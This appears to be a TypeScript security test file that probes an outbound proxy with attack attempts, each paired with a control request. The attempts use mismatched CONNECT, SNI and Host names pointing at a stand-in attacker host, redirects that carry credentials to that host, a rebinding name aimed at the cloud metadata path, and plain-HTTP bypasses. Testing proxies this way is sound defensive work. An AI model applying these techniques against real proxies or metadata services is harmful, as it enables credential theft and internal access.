import type { Attempt, Brief, InsideRow } from '../brief.js'
import { attempt, inTurn, type ForwardResult } from './lib/attempt.mjs'
import { openTcp, openTls, openTunnel } from './lib/http.mjs'
import { askByTls, HTTP1, HTTP2, overBoth, secure, type HttpVersion } from './lib/http-versions.mjs'
import { askJiraOver } from './lib/controls.mjs'

export const rows: Readonly<Record<string, InsideRow>> = overBoth((version) => ({
  'host-mismatch': {
    attack: nameDifferentHosts(version),
    control: version === HTTP1 ? useTunnel : connectToAssets,
  },
  redirect: { attack: followRedirects(version), control: askEcho(version) },
  rebinding: { attack: rebind(version), control: askAssets(version) },
  impostor: { attack: askImpostor(version), control: askJiraOver(version) },
  'plain-http': { attack: askWithoutTls(version), control: askJiraOver(version) },
}))

type Act = InsideRow['attack']

/** CONNECT target, SNI and Host; null for a step that is skipped. */
type Names = readonly [connect: string | null, sni: string | null, host: string]

function nameDifferentHosts(version: HttpVersion): Act {
  return ({ listeners, names }, marker) => {
    const { jira, llm, attacker, tunnel } = names
    const path = `/rest/api/2/myself?attack=${marker}`
    const combinations: Names[] = [
      [null, jira, attacker],
      [null, jira, llm],
      [null, attacker, jira],
      [null, null, jira],
      [jira, jira, attacker],
      [jira, attacker, jira],
      [jira, attacker, attacker],
      [jira, llm, llm],
      [jira, llm, jira],
      [jira, null, jira],
      [attacker, jira, jira],
      [tunnel, attacker, attacker],
      [tunnel, jira, jira],
      [tunnel, null, tunnel],
    ]
    const go = async ([connect, sni, host]: Names): Promise<ForwardResult> => {
      const socket =
        connect === null
          ? await openTcp(listeners.https)
          : await openTunnel(listeners.proxy, `${connect}:443`)
      return version.ask(await secure(socket, sni, version), { host, path })
    }
    return inTurn([
      ...combinations.map(
        (one) => () =>
          attempt(`CONNECT ${one[0] ?? '-'}, SNI ${one[1] ?? '-'}, Host ${one[2]}`, () => go(one)),
      ),
      () =>
        attempt('CONNECT with another Host', async () => {
          const socket = await openTunnel(listeners.proxy, `${jira}:443`, `${attacker}:443`)
          return version.ask(await secure(socket, jira, version), { host: jira, path })
        }),
      () =>
        attempt('absolute form with another Host', async () =>
          version.ask(await openTcp(listeners.proxy), { host: attacker, path: `https://${jira}${path}` }),
        ),
      () =>
        attempt('absolute form inside TLS', () =>
          askByTls(version, listeners.https, { host: jira, path: `https://${attacker}${path}` }),
        ),
      () =>
        attempt('another Host beside the right one', () =>
          askByTls(version, listeners.https, { host: jira, path, headers: { host: attacker } }),
        ),
      () =>
        attempt('TLS into the plain listener', async () =>
          version.ask(await secure(await openTcp(listeners.http), jira, version), { host: jira, path }),
        ),
    ])
  }
}

/** Follows redirects like a careless client: to any host, with its credentials. */
function followRedirects(version: HttpVersion): Act {
  return ({ listeners, names }, marker) => {
    const queries: Record<string, string> = {
      https: `to=https://${names.attacker}/`,
      http: `to=http://${names.attacker}/`,
      'https, the credential in its query': `carry=1&to=https://${names.attacker}/`,
      'another service': `to=https://${names.llm}/v1/messages`,
    }
    return inTurn(
      Object.entries(queries).map(
        ([what, query]) =>
          () =>
            attempt(`redirect to ${what}`, async () => {
              const path = `/redirect?attack=${marker}&${query}`
              const first = await askByTls(version, listeners.https, { host: names.echo, path })
              const { bytes = Buffer.alloc(0) } = first
              const location = /^location: (.*)$/im.exec(bytes.toString('latin1'))?.[1]?.trim() ?? ''
              if (!URL.canParse(location)) return { reached: false, said: 'no redirect', bytes }
              const next = await follow(version, listeners, location)
              return { ...next, bytes: Buffer.concat([bytes, next.bytes ?? Buffer.alloc(0)]) }
            }),
      ),
    )
  }
}

async function follow(
  version: HttpVersion,
  listeners: Brief['listeners'],
  location: string,
): Promise<ForwardResult> {
  const { protocol, host, pathname, search } = new URL(location)
  const request = { host, path: pathname + search }
  if (protocol === 'https:') return askByTls(version, listeners.https, request)
  return version.ask(await openTcp(listeners.http), request)
}

function rebind(version: HttpVersion): Act {
  return async ({ listeners, names }, marker) => [
    await attempt('a wildcard name that resolves to the metadata service', () =>
      askByTls(version, listeners.https, {
        host: names.metadata,
        path: `/latest/meta-data/?attack=${marker}`,
      }),
    ),
  ]
}

function askImpostor(version: HttpVersion): Act {
  return async ({ listeners, names }, marker) => [
    await attempt('GET at a service whose name leads to the attacker', () =>
      askByTls(version, listeners.https, { host: names.impostor, path: `/?attack=${marker}` }),
    ),
  ]
}

function askWithoutTls(version: HttpVersion): Act {
  return ({ listeners, names }, marker) => {
    const path = `/rest/api/2/myself?attack=${marker}`
    const request = { host: names.jira, path }
    return inTurn([
      () =>
        attempt('transparent listener, port 80', async () =>
          version.ask(await openTcp(listeners.http), request),
        ),
      () =>
        attempt('forward proxy, absolute form', async () =>
          version.ask(await openTcp(listeners.proxy), { ...request, path: `http://${names.jira}${path}` }),
        ),
      () => attempt('forward proxy', async () => version.ask(await openTcp(listeners.proxy), request)),
      () =>
        attempt('inside CONNECT', async () =>
          version.ask(await openTunnel(listeners.proxy, `${names.jira}:443`), request),
        ),
    ])
  }
}

async function useTunnel({ listeners, names, ca }: Brief, marker: string): Promise<Attempt[]> {
  return [
    await attempt('CONNECT, SNI and Host of the tunnel agree', async () => {
      const socket = await openTunnel(listeners.proxy, `${names.tunnel}:443`)
      // The service's own certificate, verified end to end: no interception.
      const secured = await openTls(socket, names.tunnel, { ca })
      return HTTP1.ask(secured, { host: names.tunnel, path: `/body?control=${marker}` })
    }),
  ]
}

/** The same over HTTP/2, which the service behind the tunnel does not have. */
async function connectToAssets({ listeners, names }: Brief, marker: string): Promise<Attempt[]> {
  return [
    await attempt('CONNECT, SNI and :authority agree', async () => {
      const socket = await openTunnel(listeners.proxy, `${names.assets}:443`)
      const request = { host: names.assets, path: `/?control=${marker}` }
      return HTTP2.ask(await secure(socket, names.assets, HTTP2), request)
    }),
  ]
}

function askEcho(version: HttpVersion): InsideRow['control'] {
  return async ({ listeners, names }, marker) => [
    await attempt('GET /body', () =>
      askByTls(version, listeners.https, { host: names.echo, path: `/body?control=${marker}` }),
    ),
  ]
}

function askAssets(version: HttpVersion): InsideRow['control'] {
  return async ({ listeners, names }, marker) => [
    await attempt(`GET https://${names.assets}/`, () =>
      askByTls(version, listeners.https, { host: names.assets, path: `/?control=${marker}` }),
    ),
  ]
}
